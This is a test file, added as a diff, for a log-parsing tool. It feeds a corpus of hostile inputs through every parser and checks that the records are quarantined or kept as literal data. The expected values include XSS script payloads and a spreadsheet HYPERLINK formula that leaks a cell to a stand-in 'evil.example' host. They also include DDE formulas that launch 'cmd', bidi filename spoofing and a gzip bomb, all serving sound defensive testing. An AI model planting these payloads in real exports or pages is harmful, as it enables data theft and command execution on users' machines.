@@ -1,0 +1,183 @@
+// The shared hostile corpus through every parser: nothing throws, bad records are quarantined
+// with a reason, attacker text stays literal data, and records = events + quarantined.
+import { describe, expect, it } from 'vitest';
+import { readFileSync, readdirSync } from 'node:fs';
+import path from 'node:path';
+import { gunzipSync } from 'node:zlib';
+import { FORMATS, SKIP, newCounters, newRow, type SourceLayout } from '../../../src/core/formats/index';
+import { LoupeError } from '../../../src/core/errors';
+import { HOSTILE, cutRecords, parseText } from './helpers';
+import { gzipBomb, longLineLog, multiMemberGzip, truncatedGzip, utf8SplitAtBoundary } from '../../fixtures/hostile/make';
+
+const decode = (b: Uint8Array): string => new TextDecoder('utf-8', { fatal: false }).decode(b);
+const files = readdirSync(HOSTILE).filter((f) => f !== 'README.md' && f !== 'make.ts');
+
+/** Runs one text through one spec, forced: every record must parse or be quarantined, never throw. */
+function throughSpec(text: string, layout: SourceLayout, name: string): { events: number; quarantined: number; records: number } {
+  const spec = FORMATS.find((f) => f.name === name)!;
+  const parser = spec.createParser({ tz: null, year: 2024, refTime: null, layout });
+  let events = 0;
+  let quarantined = 0;
+  let records = 0;
+  for (const rec of cutRecords(text, spec.framing)) {
+    if (rec.line < layout.firstRecordLine) continue;
+    const r = parser.parse(rec.text, newRow(), newCounters());
+    if (r === SKIP) continue;
+    records++;
+    if (r === null) events++;
+    else {
+      expect(typeof r).toBe('string');
+      expect(r.length).toBeGreaterThan(0);
+      expect(r.length).toBeLessThan(200); // a reason, not an echo of the record
+      quarantined++;
+    }
+  }
+  return { events, quarantined, records };
+}
+
+describe('hostile corpus through every parser', () => {
+  it('the README lists every committed file', () => {
+    const readme = readFileSync(path.join(HOSTILE, 'README.md'), 'utf8');
+    for (const f of files) expect(readme).toContain(`\`${f}\``);
+  });
+
+  for (const file of files) {
+    it(`${file}: no parser throws, detection throws only LoupeError`, () => {
+      const text = decode(readFileSync(path.join(HOSTILE, file)));
+      const head = text.split('\n').slice(0, 200);
+      for (const spec of FORMATS) {
+        const layout = spec.detect(head)?.layout ?? spec.layoutFor?.(head) ?? null;
+        if (layout === null) continue;
+        const n = throughSpec(text, layout, spec.name);
+        expect(n.events + n.quarantined).toBe(n.records);
+      }
+      try {
+        const parsed = parseText(text);
+        expect(parsed.rows.length + parsed.quarantined.length).toBe(parsed.records);
+      } catch (e) {
+        expect(e).toBeInstanceOf(LoupeError);
+      }
+    });
+  }
+
+  it('markup, URLs and bidi controls are kept literally as data', () => {
+    const s = parseText(readFileSync(path.join(HOSTILE, 'script_tags.log'), 'utf8'));
+    expect(s.rows[0].query).toBe('q=<script>alert(document.cookie)</script>');
+    expect(s.rows[0].user_agent).toBe('<img src=x onerror=alert(1)>');
+    expect(s.rows[1].path).toBe('/<svg/onload=alert(2)>');
+    expect(s.rows[1].referrer).toBe("</td><script>fetch('//evil')</script>");
+    expect(s.rows[1].user_agent).toBe('Mozilla/5.0 "><script>x</script>');
+    const j = parseText(readFileSync(path.join(HOSTILE, 'javascript_url.log'), 'utf8'));
+    expect(j.rows[0].referrer).toBe('javascript:alert(document.domain)');
+    expect(j.rows[0].query).toBe('to=javascript:alert(1)');
+    const b = parseText(readFileSync(path.join(HOSTILE, 'bidi.log'), 'utf8'));
+    expect(b.rows[0].path).toBe('/invoice\u202egpj.exe');
+    expect(b.rows[0].user_agent).toBe('Mozilla/5.0 \u202e\u2066evil\u2069\u200b');
+  });
+
+  it('formula payloads stay text, unprefixed (escaping is the exporter\'s job)', () => {
+    const c = parseText(readFileSync(path.join(HOSTILE, 'formula.csv'), 'utf8'));
+    expect(c.rows.map((r) => r.user_agent)).toEqual(['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!'A1'"]);
+    expect(JSON.parse(String(c.rows[1].extra))).toEqual({ note: "@SUM(1+9)*cmd|' /C calc'!A0" });
+    expect(JSON.parse(String(c.rows[2].extra))).toEqual({ note: '\t=1+1' });
+    const l = parseText(readFileSync(path.join(HOSTILE, 'formula.log'), 'utf8'));
+    expect(l.rows[0]).toMatchObject({ path: '/=HYPERLINK("http://evil","x")', referrer: "=cmd|' /C calc'!A0", user_agent: '@SUM(1+1)' });
+  });
+
+  it('NUL bytes: kept inside values; a line of NULs is quarantined', () => {
+    const n = parseText(readFileSync(path.join(HOSTILE, 'nul_bytes.log'), 'utf8'));
+    expect(n.rows.map((r) => r.path)).toEqual(['/a\u0000b', '/ok']);
+    expect(n.rows[1].user_agent).toBe('ua\u0000with nul');
+    expect(n.quarantined).toHaveLength(1);
+    expect(n.quarantined[0].line).toBe(2);
+  });
+
+  it('invalid UTF-8 does not stop parsing (the raw bytes are the pipeline\'s to keep)', () => {
+    const u = parseText(decode(readFileSync(path.join(HOSTILE, 'invalid_utf8.log'))));
+    expect(u.rows).toHaveLength(3);
+    expect(u.quarantined).toHaveLength(0);
+    expect(u.rows[2].status).toBe(404);
+  });
+
+  it('CRLF, BOM and a missing final newline never leak into values', () => {
+    for (const f of ['crlf.log', 'crlf.csv', 'bom.csv', 'bom.log', 'no_final_newline.log']) {
+      const p = parseText(readFileSync(path.join(HOSTILE, f), 'utf8'));
+      expect(p.quarantined, f).toHaveLength(0);
+      for (const row of p.rows) for (const v of Object.values(row)) if (typeof v === 'string') expect(v, f).not.toMatch(/[\r\ufeff]/);
+    }
+    expect(parseText(readFileSync(path.join(HOSTILE, 'no_final_newline.log'), 'utf8')).rows[1].path).toBe('/last');
+    expect(parseText(readFileSync(path.join(HOSTILE, 'bom.csv'), 'utf8')).detected.layout.mapping.src_ip).toBe('ip');
+  });
+
+  it('CSV: unterminated quote and wrong field counts are quarantined with the reason', () => {
+    const u = parseText(readFileSync(path.join(HOSTILE, 'unterminated_quote.csv'), 'utf8'));
+    expect(u.rows.map((r) => r.src_ip)).toEqual(['192.0.2.40']);
+    expect(u.quarantined.map((q) => q.reason)).toEqual(['unterminated quote']);
+    const w = parseText(readFileSync(path.join(HOSTILE, 'wrong_field_count.csv'), 'utf8'));
+    expect(w.rows).toHaveLength(1);
+    expect(w.quarantined.map((q) => q.reason)).toEqual(['expected 6 fields, found 3', 'expected 6 fields, found 8']);
+  });
+
+  it('JSON lines: a truncated object and a non-object are quarantined, hostile values kept', () => {
+    const j = parseText(readFileSync(path.join(HOSTILE, 'hostile.jsonl'), 'utf8'));
+    expect(j.rows).toHaveLength(2);
+    expect(j.quarantined.map((q) => q.reason)).toEqual(['invalid JSON: Expected double-quoted property name', 'JSON value is not an object']);
+    expect(j.rows[0]).toMatchObject({ query: '<script>alert(1)</script>', referrer: 'javascript:alert(1)', user_agent: '=HYPERLINK("http://x")' });
+    expect(j.rows[1]).toMatchObject({ path: '/\u202etxt.exe', user_agent: '\u0000nul' });
+  });
+
+  it('auth log: hostile user names are data; a garbage line is quarantined', () => {
+    const a = parseText(readFileSync(path.join(HOSTILE, 'auth_hostile.log'), 'utf8'));
+    expect(a.rows.map((r) => [r.action, r.user])).toEqual([
+      ['invalid_user', '<script>alert(1)</script>'],
+      ['auth_failure', '=HYPERLINK("http://x")'],
+      ['auth_failure', '\u202eroot'],
+    ]);
+    expect(a.quarantined).toHaveLength(1);
+  });
+
+  it('empty and binary files: a clear unmappable error', () => {
+    for (const f of ['empty.log', 'binary.bin']) {
+      expect(() => parseText(decode(readFileSync(path.join(HOSTILE, f))))).toThrow(LoupeError);
+    }
+  });
+});
+
+describe('generated hostile inputs', () => {
+  it('a 1 MiB line parses (or is quarantined) in every parser without throwing', () => {
+    const text = longLineLog().toString('utf8');
+    const lines = text.split('\n');
+    expect(lines[1].length).toBe(1 << 20);
+    const p = parseText(text);
+    expect(p.rows).toHaveLength(3);
+    expect(String(p.rows[1].path).length).toBeGreaterThan(1_000_000);
+    for (const spec of FORMATS) {
+      const layout = spec.detect(lines)?.layout ?? spec.layoutFor?.(lines) ?? null;
+      if (layout !== null) throughSpec(text, layout, spec.name);
+    }
+  });
+
+  it('a UTF-8 character split across a block boundary decodes whole with a streaming decoder', () => {
+    const block = 1 << 16;
+    const { data, charAt } = utf8SplitAtBoundary(block);
+    expect(data.subarray(charAt, charAt + 3)).toEqual(Buffer.from('\u20ac'));
+    const dec = new TextDecoder('utf-8');
+    const text = dec.decode(data.subarray(0, block), { stream: true }) + dec.decode(data.subarray(block));
+    const p = parseText(text);
+    expect(p.quarantined).toHaveLength(0);
+    expect(p.rows.some((r) => String(r.path).endsWith('\u20ac'))).toBe(true);
+  });
+
+  it('truncated gzip keeps a decodable prefix and then fails; multi-member decodes both members', () => {
+    const t = truncatedGzip();
+    expect(() => gunzipSync(t.data)).toThrow();
+    const m = multiMemberGzip();
+    expect(gunzipSync(m.data).toString()).toBe(m.fullText);
+  });
+
+  it('the gzip bomb is small on disk and trips an output cap', () => {
+    const bomb = gzipBomb(256 * 1024 ** 2);
+    expect(bomb.length).toBeLessThan(2 * 1024 ** 2);
+    expect(() => gunzipSync(bomb, { maxOutputLength: 16 * 1024 ** 2 })).toThrow(RangeError);
+  });
+});
